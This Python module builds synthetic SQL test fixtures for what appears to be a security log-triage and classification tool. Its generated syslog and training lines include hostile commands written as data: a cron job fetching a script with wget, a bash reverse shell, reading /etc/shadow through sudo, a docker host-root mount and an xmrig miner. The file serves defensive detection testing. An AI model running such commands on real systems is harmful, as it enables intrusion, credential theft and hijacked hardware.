"""Input adapters: the given tables seen as log lines, requests, predictions, metrics and labelled text.

Each adapter is one SELECT that Spark and DuckDB both accept, so a query and its oracle read the same rows.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from hostvigil.functions.dims import LABELS

TABLES = ["events", "documents"]

# Parameters of the correctness runs: the default ten-second window never fires on 14 rows an hour.
WINDOW = 3600
TRAFFIC = {"seconds": 3600, "request_threshold": 6, "ip_threshold": 2, "endpoint_threshold": 4, "min_ips": 5, "minute": 60}
COOLDOWN = 86_400

_LABEL_ROWS = ", ".join(f"({i}, '{label}')" for i, label in enumerate([*LABELS, "Zero_Day"]))

ADAPTERS = {
    "labels48": f"SELECT * FROM (VALUES {_LABEL_ROWS}) AS t(label_id, label)",
    "fx_access": """
SELECT event_id AS seq, ts, 'vps-' || CAST(user_id % 3 AS STRING) AS hostname, '/var/log/nginx/access.log' AS source_log,
  CASE WHEN event_id % 50 = 7 THEN 'malformed request line ' || CAST(event_id AS STRING)
  ELSE '10.0.' || CAST(CAST(floor(user_id / 256) AS BIGINT) AS STRING) || '.' || CAST(user_id % 256 AS STRING)
    || ' - - [01/Jan/2024:00:00:00 +0000] "' || CASE WHEN event_type IN ('purchase','signup') THEN 'POST' ELSE 'GET' END
    || ' /' || event_type || '?id=' || CAST(event_id AS STRING) || ' HTTP/1.1" '
    || CASE event_type WHEN 'error' THEN '500' WHEN 'purchase' THEN '302' ELSE '200' END || ' ' || CAST(event_id % 5000 AS STRING) END AS raw_line
FROM events
""",
    "fx_syslog": """
SELECT event_id AS seq, ts, 'vps-' || CAST(user_id % 3 AS STRING) AS hostname,
  CASE WHEN event_id % 16 IN (0,1,2,3,4) THEN '/var/log/auth.log' WHEN event_id % 16 = 5 THEN '/var/log/fail2ban.log'
       WHEN event_id % 16 IN (6,7) THEN '/var/log/audit/audit.log' WHEN event_id % 16 = 8 THEN '/var/log/nginx/error.log' ELSE '/var/log/syslog' END AS source_log,
  CASE event_id % 16
   WHEN 0 THEN 'Aug 04 14:30:00 web sshd[' || CAST(event_id AS STRING) || ']: Failed password for root from 10.0.0.' || CAST(user_id % 256 AS STRING) || ' port 22 ssh2'
   WHEN 1 THEN 'Aug 04 14:31:00 web sshd[77]: Accepted publickey for deploy from 10.0.0.1 port 22 ssh2'
   WHEN 2 THEN 'Aug 04 14:31:00 web sudo: user' || CAST(user_id AS STRING) || ' : TTY=pts/0 ; USER=root ; COMMAND=/bin/cat /etc/shadow'
   WHEN 3 THEN 'Aug 04 14:31:00 web sshd[78]: Accepted publickey for nmap from 10.0.0.2 port 22 ssh2'
   WHEN 4 THEN 'Aug 04 14:31:00 web sshd[79]: Invalid user admin from 10.0.0.5 port 43210'
   WHEN 5 THEN '2026-08-04 14:31:00,123 fail2ban.actions [812]: NOTICE [sshd] Ban 10.0.0.' || CAST(user_id % 256 AS STRING)
   WHEN 6 THEN 'type=EXECVE msg=audit(1722000000.1:2): exe="/usr/bin/' || event_type || '" key=x'
   WHEN 7 THEN 'type=SYSCALL msg=audit(1722000000.1:3): syscall=59 success=yes'
   WHEN 8 THEN '2026/08/04 14:31:00 [error] open() "/srv/' || event_type || '" failed'
   WHEN 9 THEN 'Aug 04 14:31:00 web systemd[1]: Started Session ' || CAST(user_id AS STRING) || ' of user deploy.'
   WHEN 10 THEN 'Aug 04 14:31:00 web systemd[1]: Started /bin/bash -i reverse shell exploit'
   WHEN 11 THEN 'Aug 04 14:31:00 web CRON[5]: (root) CMD (wget http://10.0.0.9/x.sh)'
   WHEN 12 THEN 'Aug 04 14:31:00 web bash[12]: docker run -v /:/mnt --rm alpine ' || event_type
   WHEN 13 THEN 'Aug 04 14:31:00 web bash[13]: ./xmrig -o stratum+tcp://pool:3333 ' || repeat('x', CAST((event_id % 3) * 600 AS INT))
   WHEN 14 THEN '   '
   ELSE 'plain application message ' || event_type END AS raw_line
FROM events
""",
    "fx_pred": """
SELECT e.event_id AS seq, e.ts, 'vps-' || CAST(e.user_id % 3 AS STRING) AS hostname, '/var/log/' || e.event_type || '.log' AS source_log, l.label AS prediction,
  CASE WHEN e.event_id % 11 = 0 THEN CAST((e.event_id * 37) % 1000 AS DOUBLE) / CAST(10 AS DOUBLE) ELSE CAST((e.event_id * 37) % 1000 AS DOUBLE) / CAST(1000 AS DOUBLE) END AS confidence,
  CASE WHEN e.event_id % 4 = 0 THEN 'cat /etc/SHADOW ' ELSE 'payload ' END || e.event_type AS clean_text
FROM events e JOIN labels48 l ON e.event_id % 49 = l.label_id
""",
    "fx_metrics": """
SELECT event_id AS seq, ts, 'vps-' || CAST(user_id % 10 AS STRING) AS hostname, CASE user_id % 3 WHEN 0 THEN 'CPU' WHEN 1 THEN 'RAM' ELSE 'DISK' END AS metric,
  least(value, CAST(100 AS DOUBLE)) AS current_value FROM events
""",
    "fx_labeled": """
SELECT doc_id AS ord, text, lang AS label FROM documents
""",
    "fx_eval": """
SELECT event_id AS id, event_type AS label, CASE WHEN event_id % 7 = 0 THEN 'error' WHEN user_id % 5 = 0 THEN 'click' ELSE event_type END AS predicted_label,
  CAST((event_id * 37) % 1000 AS DOUBLE) / CAST(1000 AS DOUBLE) AS confidence FROM events
""",
    "fx_review": """
SELECT CAST(seq AS STRING) AS id, ts AS timestamp, clean_text AS raw_log, prediction AS predicted_label, confidence, source_log AS log_source,
  CASE seq % 3 WHEN 0 THEN 'pending' WHEN 1 THEN 'approved' ELSE 'rejected' END AS status,
  CASE WHEN seq % 3 = 1 THEN CASE WHEN seq % 5 = 0 THEN 'Kubernetes_Token_Theft' ELSE prediction END ELSE '' END AS reviewed_label
FROM fx_pred WHERE confidence < CAST(0.6 AS DOUBLE)
""",
    "fx_lines": """
SELECT * FROM (VALUES
  (1, 'a systemd[1]: var-lib.mount: Succeeded.'),
  (2, 'a systemd[1]: Started Daily job.'),
  (3, 'a systemd[1]: Finished Daily job.'),
  (4, 'a systemd[1]: Stopped target Swap.'),
  (5, 'a systemd[1]: Stopping Web server.'),
  (6, 'a systemd[1]: Starting Web server.'),
  (7, 'a systemd[1]: Reached target Multi-User System.'),
  (8, 'a systemd[1]: Created slice User Slice.'),
  (9, 'a systemd[1]: Listening on D-Bus socket.'),
  (10, 'a systemd[1]: Mounted Huge Pages.'),
  (11, 'a systemd[1]: Deactivated successfully.'),
  (12, 'a systemd[1]: web: startup finished in 3s.'),
  (13, 'a systemd[1]: Closed D-Bus socket.'),
  (14, 'a systemd[1]: Removed slice User Slice.'),
  (15, 'a run-docker-runtime-x.mount: Succeeded.'),
  (16, 'a run-docker-runtime-x-runc.ab12.mount'),
  (17, 'a CRON[9]: (root) CMD (daily task)'),
  (18, 'a CRON[9]: (deploy) CMD (/usr/lib/php/sessionclean)'),
  (19, 'a CRON[9]: (root) CMD (/usr/lib/php/sessionclean)'),
  (20, 'a NetworkManager[7]: device eth0 successfully activated'),
  (21, 'a NetworkManager[7]: eth0 state change: now connected'),
  (22, 'a sshd[8]: Accepted publickey for deploy from 10.0.0.1'),
  (23, 'a sshd[8]: pam_unix(sshd:session): session opened for user deploy'),
  (24, 'a dhclient[6]: DHCPACK of 10.0.0.3'),
  (25, 'a dhclient[6]: DHCPRELEASE of 10.0.0.3'),
  (26, 'a systemd-resolved[5]: Using DNS server 10.0.0.53'),
  (27, 'a systemd-resolved[5]: Grace period over, resuming'),
  (28, 'a unattended-upgrades: no packages'),
  (29, 'a logrotate[4]: rotating log'),
  (30, 'a logrotate: ALERT exited abnormally'),
  (31, 'a docker: web container started'),
  (32, 'a kernel: x audit: kind type=1400 audit(1): res=success'),
  (33, 'a sshd[8]: Accepted password for root from 10.0.0.4'),
  (34, 'a sshd[8]: Failed password for bob from 10.0.0.4'),
  (35, 'a sshd[8]: Invalid user bob from 10.0.0.4'),
  (36, 'a sudo: bob : TTY=pts/0 ; USER=root ; COMMAND=/bin/ls'),
  (37, 'a su: pam bob: session opened for user root'),
  (38, '10.0.0.4 - - [x] "GET /a?b=1 HTTP/1.1" 200 5'),
  (39, 'a proc: nmap -sS 10.0.0.0/24'),
  (40, 'a sh: docker exec web ls'),
  (41, 'a proc: minerd running'),
  (42, 'a sh: mkfifo pipe'),
  (43, 'a sh: useradd bob'),
  (44, 'a sh: openssl enc file'),
  (45, 'a fail2ban.actions [Ban] 10.0.0.4'),
  (46, 'type=PATH msg=audit(1): name="x"'),
  (47, 'A SYSTEMD[1]: STARTED upper case'),
  (48, 'a sshd[8]: Accepted publickey for nikto from 10.0.0.1'),
  (49, 'a app: curl.*|.*bash literal text'),
  (50, 'a systemd[1]: Started reverse proxy'),
  (51, 'nothing of interest here')
) AS t(seq, raw_line)
""",
    # Labelled lines for the line classifier; templates 4 and 6 are ambiguous on purpose.
    "fx_train": """
SELECT seq AS ord, raw_line AS text, CASE seq % 16
  WHEN 0 THEN 'SSH_BruteForce' WHEN 2 THEN 'PrivilegeEscalation' WHEN 3 THEN 'PortScanning'
  WHEN 4 THEN CASE WHEN user_id % 2 = 0 THEN 'SSH_Login_Attack' ELSE 'Failed_Login' END
  WHEN 5 THEN 'BruteForce'
  WHEN 6 THEN CASE user_id % 3 WHEN 0 THEN 'Suspicious_Process' WHEN 1 THEN 'Malicious_System_Command' ELSE 'System_Enumeration' END
  WHEN 8 THEN 'PathTraversal' WHEN 10 THEN 'ReverseShell' WHEN 11 THEN 'Linux_Malware' WHEN 12 THEN 'Docker_Abuse'
  WHEN 13 THEN 'Cryptomining' ELSE 'Benign' END AS label
FROM fx_syslog JOIN (SELECT event_id, user_id FROM events) AS who ON seq = event_id
""",
    # Lines of both kinds, with sources that reach every extraction rule.
    "fx_triage": """
SELECT seq, source_log, raw_line FROM fx_syslog
UNION ALL
SELECT -seq AS seq, CASE seq % 4 WHEN 0 THEN '/var/log/auth.log' WHEN 1 THEN '/var/log/audit/audit.log' WHEN 2 THEN '/var/log/apache2/access.log' ELSE '/var/log/fail2ban.log' END AS source_log, raw_line FROM fx_lines
""",
    # Labelled text with missing and blank values.
    "fx_dirty": """
SELECT ord, CASE ord % 10 WHEN 3 THEN '  ' WHEN 4 THEN NULL ELSE text END AS text, CASE WHEN ord % 10 = 5 THEN NULL ELSE label END AS label FROM fx_labeled
""",
    # Reviewers' verdicts: some rows reviewed twice, some ids unknown.
    "fx_verdicts": """
SELECT CAST(event_id * 2 AS STRING) AS id, event_id AS review_seq, CASE WHEN event_id % 3 = 0 THEN 'reject' ELSE 'approve' END AS action,
  CASE WHEN event_id % 3 = 0 THEN NULL WHEN event_id % 5 = 0 THEN 'Kubernetes_Token_Theft' ELSE event_type END AS label FROM events
UNION ALL
SELECT CAST(event_id AS STRING) AS id, event_id + 1000000000 AS review_seq, 'reject' AS action, CAST(NULL AS STRING) AS label FROM events WHERE event_id % 8 = 0
""",
}

NEEDS = {
    "labels48": [],
    "fx_pred": ["labels48"],
    "fx_review": ["labels48", "fx_pred"],
    "fx_train": ["fx_syslog"],
    "fx_triage": ["fx_syslog", "fx_lines"],
    "fx_dirty": ["fx_labeled"],
}

# Classes of the labelled tables: metadata a model is saved with.
DOCUMENT_LABELS = ["de", "en", "es", "fr"]
LINE_LABELS = [
    "Benign", "BruteForce", "Cryptomining", "Docker_Abuse", "Failed_Login", "Linux_Malware", "Malicious_System_Command",
    "PathTraversal", "PortScanning", "PrivilegeEscalation", "ReverseShell", "SSH_BruteForce", "SSH_Login_Attack",
    "Suspicious_Process", "System_Enumeration",
]


def with_clause(names: list[str]) -> str:
    """Common table expressions for adapters, what they need first."""
    ordered: list[str] = []
    for name in names:
        ordered += [n for n in [*NEEDS.get(name, []), name] if n not in ordered]
    return ", ".join(f"{n} AS ({ADAPTERS[n].strip()})" for n in ordered)


def adapter(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    tables = ", ".join(f"{t} AS (SELECT * FROM parquet.`{sf_dir}/{t}.parquet`)" for t in TABLES)
    return spark.sql(f"WITH {tables}, {with_clause([name])} SELECT * FROM {name}")
